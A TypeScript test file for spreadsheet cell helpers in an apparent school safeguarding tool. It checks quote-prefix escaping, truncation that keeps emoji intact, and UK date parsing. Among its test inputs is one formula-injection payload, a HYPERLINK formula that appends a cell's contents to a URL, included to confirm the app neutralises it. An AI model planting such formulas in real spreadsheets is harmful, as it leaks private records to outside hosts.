import fc from 'fast-check';
import {
  CELL_CHAR_LIMIT,
  cellDate,
  cellText,
  fitToCell,
  isTruncated,
  textCell,
  truncationMarker,
  withoutQuotePrefix,
} from '../../src/domain/cells';

/** True when the string has a high surrogate without its low half, or a low one without its high half. */
function hasLoneSurrogate(text: string): boolean {
  return /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/.test(text);
}

describe('textCell: what a person typed is written as text and shown exactly as typed', () => {
  test.each([
    ['a formula', '=1+1'],
    ['a formula that would fetch a URL', '=HYPERLINK("https://example.org/?leak="&A2,"click")'],
    ['a UK phone number', '+44 7700 900123'],
    ['a negative number', '-5'],
    ['a mention', '@here'],
    ['a leading zero', '007'],
    ['a date in UK order', '1/2/2026'],
    ['a boolean', 'TRUE'],
    ['a percentage', '50%'],
    ['an apostrophe the person typed', "'quoted"],
    ['two apostrophes', "''"],
    ['emoji', 'He sent 😡😡 then 👍🏽 and 👨‍👩‍👧'],
    ['Arabic (right to left)', 'قال لي: "لا تخبر أحداً"'],
    ['Hebrew (right to left)', 'הוא כתב לי הודעה מאיימת'],
    ['line breaks', 'First line\nSecond line\r\nThird line\n\n'],
    ['only spaces', '   '],
  ])('%s', (_what, typed) => {
    const written = textCell(typed);
    expect(written.startsWith("'")).toBe(true);
    // Sheets keeps what follows the quote prefix as literal text: the stored value is what was typed.
    expect(withoutQuotePrefix(written)).toBe(typed);
  });

  test('an empty answer stays an empty cell (no stray apostrophe)', () => {
    expect(textCell('')).toBe('');
  });

  test('40,000 characters are stored whole', () => {
    const typed = 'Messages copied out by the pupil. '.repeat(1200).slice(0, 40_000);
    expect(withoutQuotePrefix(textCell(typed))).toBe(typed);
  });

  test('60,000 characters are cut to fit a cell, with a marker saying how much is missing and where it is', () => {
    const typed = 'x'.repeat(60_000);
    const written = textCell(typed);
    expect(written.length).toBeLessThanOrEqual(CELL_CHAR_LIMIT);
    const stored = withoutQuotePrefix(written) as string;
    expect(isTruncated(stored)).toBe(true);
    const marker =
      /\[… ([\d,]+) more characters not stored in this cell: the full text is in the form response\.\]$/.exec(
        stored,
      );
    expect(marker).not.toBeNull();
    const kept = stored.slice(0, stored.indexOf('\n\n[…'));
    expect(typed.startsWith(kept)).toBe(true);
    expect(Number(marker?.[1]?.replace(/,/g, ''))).toBe(typed.length - kept.length);
  });

  test('a long text of emoji is never cut through the middle of one', () => {
    for (const lead of ['', 'a']) {
      const typed = lead + '😀'.repeat(30_000);
      const stored = withoutQuotePrefix(textCell(typed)) as string;
      expect(stored.length).toBeLessThanOrEqual(CELL_CHAR_LIMIT - 1);
      expect(hasLoneSurrogate(stored)).toBe(false);
      const kept = stored.slice(0, stored.indexOf('\n\n[…'));
      expect(typed.startsWith(kept)).toBe(true);
      // The count is in characters a person sees: an emoji counts once.
      const missing = Array.from(typed).length - Array.from(kept).length;
      expect(stored.endsWith(truncationMarker(missing))).toBe(true);
    }
  });

  test('text exactly at the limit is kept whole; one character more is cut', () => {
    const atLimit = 'y'.repeat(CELL_CHAR_LIMIT - 1);
    expect(withoutQuotePrefix(textCell(atLimit))).toBe(atLimit);
    expect(isTruncated(withoutQuotePrefix(textCell(atLimit + 'y')) as string)).toBe(true);
  });

  test('any text cut to any limit: fits, is a prefix plus the marker, keeps surrogate pairs whole', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'grapheme', minLength: 0, maxLength: 400 }),
        fc.integer({ min: 110, max: 300 }),
        (text, limit) => {
          const out = fitToCell(text, limit);
          expect(out.length).toBeLessThanOrEqual(limit);
          expect(hasLoneSurrogate(out)).toBe(false);
          if (text.length <= limit) expect(out).toBe(text);
          else {
            expect(isTruncated(out)).toBe(true);
            expect(text.startsWith(out.slice(0, out.indexOf('\n\n[…')))).toBe(true);
          }
        },
      ),
    );
  });
});

describe('reading cells back', () => {
  test.each<[string, unknown, string]>([
    ['text', 'Spoke to mum', 'Spoke to mum'],
    ['a number Sheets made of "42"', 42, '42'],
    ['a boolean', true, 'TRUE'],
    ['empty', '', ''],
    ['a date typed by the DSL', new Date('2026-03-02T00:00:00Z'), '02/03/2026'],
    ['a date-time', new Date('2026-07-14T08:05:00Z'), '14/07/2026 09:05'],
  ])('cellText of %s', (_what, value, expected) => {
    expect(cellText(value, 'Europe/London')).toBe(expected);
  });

  test.each<[string, unknown, string | null]>([
    ['dd/mm/yyyy typed as text', '03/11/2026', '2026-11-03T00:00:00.000Z'],
    ['dd/mm/yyyy in summer time', '14/07/2026', '2026-07-13T23:00:00.000Z'],
    ['yyyy-mm-dd with a time', '2026-07-14 09:30', '2026-07-14T08:30:00.000Z'],
    ['a Date', new Date('2026-01-05T10:00:00Z'), '2026-01-05T10:00:00.000Z'],
    ['31 February', '31/02/2026', null],
    ['words', 'last Tuesday', null],
    ['empty', '', null],
    ['a number', 46000, null],
  ])('cellDate of %s', (_what, value, expected) => {
    const date = cellDate(value, 'Europe/London');
    expect(date ? date.toISOString() : null).toBe(expected);
  });
});
